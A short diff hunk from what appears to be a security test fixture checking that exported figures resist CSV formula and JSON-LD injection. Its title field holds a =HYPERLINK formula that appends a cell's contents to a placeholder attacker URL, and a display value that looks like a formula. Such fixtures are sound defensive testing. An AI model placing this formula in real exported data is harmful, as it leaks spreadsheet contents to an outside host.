@@ -61,7 +61,7 @@ A figure whose fields try to break out of the JSON-LD.
   // Spreadsheet formulas in every text column the CSV has.
   'content/figures/hostile-csv.md': `---
 title: '=HYPERLINK("${EVIL}?"&A1,"Source")'
-value: -5
+value: -2
 display: "-2+3"
 unit: count
 year: 2021
